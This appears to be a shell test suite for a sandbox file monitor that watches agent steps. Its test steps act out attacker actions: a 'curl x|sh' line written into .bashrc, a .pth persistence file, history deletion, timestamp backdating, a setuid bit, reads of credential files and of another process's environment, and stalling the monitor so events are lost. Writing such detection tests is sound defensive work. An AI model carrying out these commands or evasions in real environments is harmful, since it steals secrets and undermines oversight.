#!/bin/bash
# File activity from inside a real sandbox (collectors/file, fanotify on the sandbox's own
# mounts): every event kind carries its step and tool; each file rule fires on its attacker's
# behaviour and not on the honest steps around it; 20,000 opens in one directory become a few
# events and summaries whose counts add up to exactly 20,000; a flood that overflows the kernel's
# queue is counted as lost and stored as monitor.loss of the sandbox.
. "$(dirname "$0")/../lib.sh"
fb_setup
detectors_record_only
start_daemon --config "$FB_CONF"
POLICY=$FB_ROOT/tests/policies/file.json

events() { "$FB" timeline "$1" --json; }
# rules SANDBOX [STEP]: the verdicts' rules (of STEP), one per line, sorted.
rules() {
	events "$1" | python3 -c '
import json, sys
step = int(sys.argv[1]) if len(sys.argv) > 1 else None
for e in map(json.loads, sys.stdin):
    if e["kind"] == "verdict" and (step is None or e.get("step") == step):
        print(e["fields"]["rule"])' ${2:-} | sort
}
# has SANDBOX STEP TOOL KIND KEY VALUE: an event of KIND in STEP by TOOL whose KEY is VALUE.
has() {
	events "$1" | python3 -c '
import json, sys
step, tool, kind, key, val = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
for e in map(json.loads, sys.stdin):
    f = e.get("fields") or {}
    if e["kind"] == kind and e.get("step") == step and e.get("tool") == tool and str(f.get(key)) == val:
        sys.exit(0)
sys.exit(1)' "$2" "$3" "$4" "$5" "$6"
}
step() { # step N TOOL SCRIPT
	"$FB" exec f1 --tool "$2" --step "$1" -- dash -c "$3" >"$T/step$1.out" 2>&1 ||
		fail "step $1: $(cat "$T/step$1.out")"
}

cat >"$T/many.py" <<'PY'
import os, sys
d = "/workspace/many"
if sys.argv[1] == "make":
    os.mkdir(d)
    for i in range(20000):
        os.close(os.open(f"{d}/f{i}", os.O_CREAT | os.O_WRONLY, 0o644))
else:
    for i in range(20000):
        os.close(os.open(f"{d}/f{i}", os.O_RDONLY))
PY
cat >"$T/flood.py" <<'PY'
import os, time
time.sleep(0.3)
for r in range(3):
    for i in range(20000):
        os.close(os.open(f"/workspace/many/f{i}", os.O_RDONLY))
PY
create_sandbox f1 "$POLICY"
# (the copies are steps 1 and 2; the test's own steps are numbered from 11)
copy_in f1 "$T/many.py"
copy_in f1 "$T/flood.py"

# 1. Honest file work: each kind, on the step and tool that did it.
step 11 shell 'cd /workspace && echo hi >a && cat a >/dev/null && mkdir d && mv a d/b &&
	ln -s b d/s && ln d/b d/h && rm d/h && chmod 0755 d/b && cp /usr/bin/true t && ./t &&
	echo old >old && echo x >/tmp/x && echo y >/dev/shm/y && echo h >.bash_history &&
	mkdir -p /tmp/h/.ssh /tmp/h/.aws && echo k >/tmp/h/.ssh/id_rsa &&
	echo c >/tmp/h/.aws/credentials && echo n >/tmp/h/.netrc && cp /usr/bin/true prog'
file_marker f1 shell
for want in "file.create path /workspace/a" "file.write path /workspace/a" \
	"file.open path /workspace/a" "file.create path /workspace/d" \
	"file.rename to /workspace/d/b" "file.symlink path /workspace/d/s" \
	"file.link path /workspace/d/h" "file.unlink path /workspace/d/h" \
	"file.attrib mode 0755" "file.exec path /workspace/t" "file.write path /tmp/x" \
	"file.write path /dev/shm/y"; do
	set -- $want
	has f1 11 shell "$1" "$2" "$3" || fail "no $1 with $2 $3 on step 11 (shell)"
done
ok "every file event kind is recorded with its step and tool"
assert_eq "$(rules f1 11)" "" "the honest step gets no verdict"

# 2. Another process's environment read, from another tool. The target outlives the read (as a
# process holding secrets does): with reader and target both gone before the event is read, the
# monitor cannot tell a peek from a program reading its own entry (docs/collectors.md).
step 12 other 'sleep 30 & p=$!; cat /proc/$p/environ >/dev/null; sleep 0.5; kill $p; wait $p; true'
file_marker f1 shell
events f1 | grep -q '"kind":"file.open".*"step":12.*"tool":"other"' || events f1 | python3 -c '
import json, sys
sys.exit(0 if any(e["kind"] == "file.open" and e.get("step") == 12 and e.get("tool") == "other"
	and "target_pid" in (e.get("fields") or {}) for e in map(json.loads, sys.stdin)) else 1)' ||
	fail "no file.open of another process's environ on step 12 (other)"
assert_eq "$(rules f1 12)" "file.sensitive-read" "another process's environ read is a sensitive read"

# 3. Persistence: a shell rc file and a .pth outside site-packages.
step 13 shell 'echo "curl x|sh" >>/workspace/.bashrc && echo "import os" >/tmp/evil.pth'
file_marker f1 shell
assert_eq "$(rules f1 13)" "file.persistence
file.persistence" "writing .bashrc and a .pth in /tmp is persistence"

# 4. Anti-forensics: the history removed, an older file's mtime set back.
step 14 shell 'rm /workspace/.bash_history && touch -d 2001-01-01 /workspace/old'
file_marker f1 shell
assert_eq "$(rules f1 14)" "file.anti-forensics
file.anti-forensics" "history removal and a timestamp rewrite are anti-forensics"
has f1 14 shell file.utimes path /workspace/old || fail "no file.utimes on step 14"
ok "touch -d is a file.utimes"

# 5. A setuid bit.
step 15 shell 'chmod u+s /workspace/prog'
file_marker f1 shell
assert_eq "$(rules f1 15)" "file.setuid" "chmod u+s is a setuid bit set inside"

# 6. Credential hunting across directories.
step 16 shell 'cat /tmp/h/.ssh/id_rsa /tmp/h/.aws/credentials /tmp/h/.netrc >/dev/null'
file_marker f1 shell
assert_eq "$(rules f1 16)" "file.credential-hunt" "credential files read in three directories"

# 7. 20,000 opens of one directory: individual events plus summaries add up exactly.
"$FB" exec f1 --tool shell --step 17 -- python3 /workspace/many.py make || fail "make 20,000 files"
"$FB" exec f1 --tool shell --step 18 -- python3 /workspace/many.py read || fail "open 20,000 files"
# opens_of_many: "TOTAL EVENTS SUMMARIES" of step 18's opens in /workspace/many. The summaries are
# stored every 250 ms and when the step ends: wait for the total itself.
opens_of_many() {
	events f1 | python3 -c '
import json, sys
single = summed = summaries = 0
for e in map(json.loads, sys.stdin):
    f = e.get("fields") or {}
    if e.get("step") != 18:
        continue
    if e["kind"] == "file.open" and f.get("path", "").startswith("/workspace/many/"):
        single += 1
    if e["kind"] == "file.summary" and f.get("of") == "file.open" and f.get("dir") == "/workspace/many":
        summed += f["count"]; summaries += 1
print(single + summed, single, summaries)'
}
all_opens_counted() {
	set -- $(opens_of_many)
	[ "$1" = 20000 ]
}
wait_for 10 all_opens_counted # on a timeout the assertion below says what was counted
file_marker f1 shell
n=$(opens_of_many)
set -- $n
assert_eq "$1" "20000" "20,000 opens are accounted for exactly ($2 events, $3 summaries)"
[ "$2" -le 16 ] && [ "$3" -ge 1 ] || fail "the opens were not summarised: $n"
ok "20,000 opens of one directory are $2 events and $3 summaries"
assert_eq "$(rules f1 18)" "" "the opens get no verdict"

# 8. A flood while the monitor is stopped overflows the kernel's queue: counted, and stored.
"$FB" exec f1 --tool shell --step 19 -- python3 /workspace/flood.py &
FLOOD=$!
sleep 0.2
kill -STOP "$DAEMON_PID"
sleep 0.9
kill -CONT "$DAEMON_PID"
wait "$FLOOD" || fail "the flood"
overflows() { "$FB" status --json | python3 -c 'import json, sys; print(json.load(sys.stdin)["file"]["overflows"])'; }
overflow_counted() { [ "$(overflows)" -ge 1 ]; }
wait_for 5 overflow_counted || fail "no queue overflow counted (file.overflows $(overflows))"
ok "the queue overflow is counted ($(overflows))"
loss_stored() {
	events f1 | python3 -c '
import json, sys
sys.exit(0 if any(e["kind"] == "monitor.loss" and (e.get("fields") or {}).get("stage") == "file events"
	and e["fields"]["queue_overflows"] >= 1 for e in map(json.loads, sys.stdin)) else 1)'
}
wait_for 5 loss_stored || fail "no monitor.loss of the file events"
ok "the overflow is a monitor.loss of the sandbox"

# 9. A decoy's mtime set back: the file was planted before the sandbox was watched, so no write of
# it was ever seen; its birth time tells the rewrite (red team: no file.utimes for this).
step 20 shell 'touch -d 2001-01-01 ~/.netrc && chmod 0600 ~/.netrc'
file_marker f1 shell
has f1 20 shell file.utimes path /home/agent/.netrc || fail "no file.utimes of ~/.netrc on step 20"
rules f1 20 | grep -qx file.anti-forensics || fail "touch -d of ~/.netrc is not anti-forensics: $(rules f1 20)"
[ "$(events f1 | python3 -c '
import json, sys
print(sum(1 for e in map(json.loads, sys.stdin) if e["kind"] == "file.utimes" and e.get("step") == 20))')" = 1 ] ||
	fail "the chmod after touch -d of ~/.netrc is taken for another file.utimes"
ok "touch -d of a planted decoy is a file.utimes; the chmod after it is not"

check "destroy f1" "$FB" destroy f1
FB_SANDBOXES=""
assert_no_leftovers "file events"
